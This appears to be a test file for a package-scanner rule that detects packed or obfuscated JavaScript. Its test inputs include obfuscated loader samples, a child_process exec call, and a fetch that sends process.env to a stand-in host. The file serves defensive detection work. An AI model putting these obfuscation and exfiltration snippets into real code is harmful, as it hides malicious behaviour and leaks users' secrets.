import assert from 'node:assert/strict';
import { test } from 'node:test';
import { said } from '#test/support/scan-package.js';
import { rule as childProcess } from './child-process.rule.js';
import { rule } from './packed-code.rule.js';

test('bad: six symbols', () => {
  assert.deepEqual(said(rule, { 'a.js': `x=${Array.from({ length: 60 }, () => '[+!+[]]+(![]+[])').join('+')}` }), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': 'while(!![]){if(![])break;x(!![],[]);}' }), ['medium a.js:1']);
});

test('bad: packers, code in texts', () => {
  assert.deepEqual(said(rule, { 'a.js': "eval(function(p,a,c,k,e,d){while(c--)p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c]);return p}('0(1)',2,2,'alert|x'.split('|'),0,{}))" }), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': `run();\nnew Function("x", ${JSON.stringify('const a = require("fs"); a.readFileSync(x);'.repeat(6))})(1)` }), ['high a.js:2']);
});

test('good: conversions with operators', () => {
  assert.deepEqual(said(rule, { 'a.js': 'const on = !!flag, n = +text, empty = [] + "", none = !list.length, t = !0, f = !1; if (!{}.x) run(~x.indexOf(y))' }), []);
});

test('good: templates, short code, data that is mostly signs', () => {
  assert.deepEqual(said(rule, { 'a.js': 'const root = Function("return this")(); const get = new Function("o", "return o." + path); f(function (a, b, c, d) { return a }, "x y".split(" "))' }), []);
  assert.deepEqual(said(rule, { 'a.js': `export const matrix = [${Array.from({ length: 200 }, (_, index) => `[${index},-${index}]`).join(',')}]` }), []);
});

test('good: pictures made of letters', () => {
  assert.deepEqual(said(rule, { 'a.js': `export default \`flf2a$ 7 7\n${'.##..#####.(###)/\\\\_/@@\n'.repeat(60)}\`;` }), []);
});

test('bad: symbols in a text that is a script', () => {
  assert.deepEqual(said(rule, { 'a.js': `run(\`${Array.from({ length: 60 }, () => '[+!+[]]+(![]+[])').join('+')}\`)` }), ['high a.js:1']);
});

const READABLE = 'class Tracked extends Promise { constructor(run) { super(run); this.calls = []; } then(done, failed) { this.calls.push([done, failed]); return super.then(done, failed); } } Tracked.count = 0; return Tracked;';

test('good: code in a text that is read as a script of its own', () => {
  assert.deepEqual(said(rule, { 'a.js': `const Tracked = Function(${JSON.stringify(READABLE)})();` }), ['low a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': `define("list", Function(["require", "module", "exports"], ${JSON.stringify(`${READABLE.replace('return Tracked;', 'exports.Tracked = Tracked; setTimeout(Tracked.run, 5);')}`)}));` }), ['low a.js:1']);
});

test('bad: code in a text that acts, gets something from outside, or cannot be read', () => {
  const acting = 'const { exec } = require("child_process"); exec("id");';
  for (const attack of [
    `Function("require", ${JSON.stringify(`${acting}${READABLE}`)})(require)`,
    `Function(${JSON.stringify(`return (x) => fetch("https://example.net/?" + x); ${READABLE}`)})()(process.env)`,
    `Function("send", "keys", ${JSON.stringify(READABLE)})(fetch, process.env)`,
    `Function(names, ${JSON.stringify(READABLE)})(fetch)`,
    `eval(${JSON.stringify(READABLE.replace('return Tracked;', 'send(keys);'))})`,
    `Function(${JSON.stringify(`${READABLE}\u0001`)})()`,
  ]) assert.deepEqual(said(rule, { 'a.js': attack }), ['high a.js:1'], attack);
  assert.ok(said(childProcess, { 'a.js': `eval(${JSON.stringify(`${acting.repeat(5)}\n//# sourceURL=webpack:///a.js`)})` }).length > 0, 'as bundlers write it');
});

const SIGNS = Array.from({ length: 120 }, (_, index) => `'[${'?!'.repeat(index % 3)}]'`).join(',');

test('good: tables of signs; bad: the same where something is called', () => {
  assert.deepEqual(said(rule, { 'a.js': `Object.defineProperty(exports, "__esModule", {}); module.exports = [${SIGNS}];` }), []);
  assert.deepEqual(said(rule, { 'a.js': `$=[${SIGNS}];_($[+!+[]])` }), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': `$=[${SIGNS}];_\`\${$}\`` }), ['high a.js:1']);
});

test('good: a bundler that evaluates modules with their maps; bad: other maps, and what the modules do counts', () => {
  const map = (source: string) => `//# sourceMappingURL=data:application/json;charset=utf-8;base64,${Buffer.from(JSON.stringify({ version: 3, file: '0.js', sources: [source], mappings: 'AAAA' })).toString('base64')}`;
  const module = (source: string, code = READABLE) => ({ 'a.js': `eval(${JSON.stringify(`${code}\n${map(source)}`)})` });
  assert.deepEqual(said(rule, module('webpack:///./app.js?9a5f')), []);
  assert.deepEqual(said(rule, module('app.js')), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': `eval(${JSON.stringify(`${READABLE}\n${map('webpack:///./app.js')}\nrun()`)})` }), ['high a.js:1']);
  assert.ok(said(childProcess, module('webpack:///./app.js', `require("child_process").exec(x);\n${READABLE}`)).length > 0);
});

test('bad: a script that is one text, of which the rest makes code; good: texts that are only shown, and those of which a part is code', () => {
  const words = 'le8to7ro6n=5[n]ZtZ)Yof XtriW){V=1024U.push.callp67constSWngreturn8t '.repeat(9);
  assert.deepEqual(said(rule, { 'a.js': `for (_='${words}'; g = /[5-8]/.exec(_);) with (_.split(g)) _ = join(shift()); eval(_)` }), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': `var s = '${words}'; document.write(unmask(s));` }), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': `const { Worker } = require("worker_threads"); const s = '${words}'; new Worker(s.replaceAll("8", "le"), { eval: true });` }), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': `exports.text = '${words}'; exports.global = new Function("return this")();` }), []);
  const json = (value: unknown): string => `exports.run = (code) => eval(code); exports.data = JSON.parse('${JSON.stringify(value)}');`;
  assert.deepEqual(said(rule, { 'a.js': json(Array.from({ length: 60 }, (_, index) => ({ id: index, name: 'a', open: true, children: [], parent: null }))) }), [], 'data');
  assert.deepEqual(said(rule, { 'a.js': json([words]) }), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': json(words.split(' ')) }), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': json([...words].map((letter) => letter.charCodeAt(0) ^ 7)) }), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': `exports.text = '${words}'; document.write("<p>"); new Worker("./a.js");` }), []);
  assert.deepEqual(said(rule, { 'a.js': `exports.text = '${words}'; exports.run = (code) => eval(code); ${'exports.all.push(make(1, 2));'.repeat(30)}` }), []);
});

test('bad: one text in pieces of one length, in an address or in what runs; good: hashes, a worker that is read, WebAssembly', () => {
  const text = Array.from({ length: 900 }, (_, index) => 'qZx7Lm0Wp3Rt9KvB2'[(index * index + 3 * index) % 17]).join('');
  const pieces = JSON.stringify(text.match(/.{1,64}/g));
  assert.deepEqual(said(rule, { 'a.js': `const p = ${pieces}; new Worker(open(p.join("")), { eval: true });` }), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': `import(["data", "text/javascript," + open("${text}")].join(":"));` }), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': `image.setAttribute("onerror", open("${text}"));` }), ['high a.js:1']);
  const blob = (value: string): string => `const u = URL.createObjectURL(new Blob([open("${value}")], { type: "text/javascript" }));`;
  assert.deepEqual(said(rule, { 'a.js': blob(text) }), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': blob(btoa('self.onmessage = ({ data }) => self.postMessage(data.map((each) => each * 2));\n'.repeat(20))) }), []);
  assert.deepEqual(said(rule, { 'a.js': `const code = ${JSON.stringify('self.onmessage = ({ data }) => self.postMessage(data);\n'.repeat(20))}; new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));` }), []);
  assert.deepEqual(said(rule, { 'a.js': `box.innerHTML = "${'<li class=first>one</li>'.repeat(40)}"; box.setAttribute("onclick", "show(" + id + ")"); box.setAttribute("onblur", "${'if (a) { hide(b); }'.repeat(12)}");` }), []);
  assert.deepEqual(said(rule, { 'a.js': `exports.help = "${text}"; import(file); image.setAttribute("alt", title(text));` }), []);
  assert.deepEqual(said(rule, { 'a.js': `exports.known = ${JSON.stringify(Array.from({ length: 14 }, () => text.slice(0, 64)))}; exports.run = (code) => eval(code);` }), []);
  // A module whose only section is code, and one that keeps data.
  const wasm = (id: number): string => Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0, 10, 1, 0, id, 0xf8, 5, ...Array.from({ length: 760 }, (_, index) => (index * 37) % 251)]).toString('base64');
  assert.deepEqual(said(rule, { 'a.js': `const b = "${wasm(10)}"; exports.run = (code) => eval(code);` }), []);
  assert.deepEqual(said(rule, { 'a.js': `const b = "${wasm(11)}"; exports.run = (code) => eval(code);` }), ['high a.js:1']);
});

test('a WebAssembly module within a script, most of it data: good where the same lies in the package as a file; bad where it does not', () => {
  const module = (letter: string) => Buffer.concat([Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0, 11, 0xd0, 0x0f]), Buffer.from(letter.repeat(2_000))]);
  const script = `const bytes = atob("${module('x').toString('base64')}"); export const make = (at, size) => new Function(read(bytes, at, size));`;
  assert.deepEqual(said(rule, { 'a.js': script, 'a.wasm': module('x') }), []);
  assert.deepEqual(said(rule, { 'a.js': script }), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': script, 'a.wasm': module('y') }), ['high a.js:1']);
  assert.deepEqual(said(rule, { 'a.js': script, 'a.txt': module('x') }), ['high a.js:1']);
});

test('bad: one call in symbols beside plain code; good: tables of signs, drawings and numbers that a call gets', () => {
  const plain = 'export function greet(name) { return "Hello, " + name + "!"; }\n'.repeat(60);
  const letters = Array.from({ length: 60 }, (_, index) => `$.${'_$$_$'.slice(index % 3)}+"\\\\"`).join('+');
  for (const call of [`$.$($.$($.$$+'"'+${letters}+'"')())();`, `const _ = $.$($.$$+${letters})()`, `module.exports = () => $.$$(${letters})`]) assert.deepEqual(said(rule, { 'a.js': `${plain}$=~[];${call}\n${plain}` }), ['high a.js:61'], call);
  for (const call of [`show(${JSON.stringify('.##..#####.(###)/\\_/@@'.repeat(30))});`, `show([${SIGNS}]);`, `draw(/* ${'-=*=- '.repeat(100)}*/ 1);`, `mesh([${Array.from({ length: 200 }, (_, index) => `[${index},-${index}]`).join(',')}]);`, `test(\`${'+--+ |  | '.repeat(60)}\`, () => /^[!-/:-@[-\`{-~]+$/);`]) assert.deepEqual(said(rule, { 'a.js': plain + call + plain }), [], call);
});
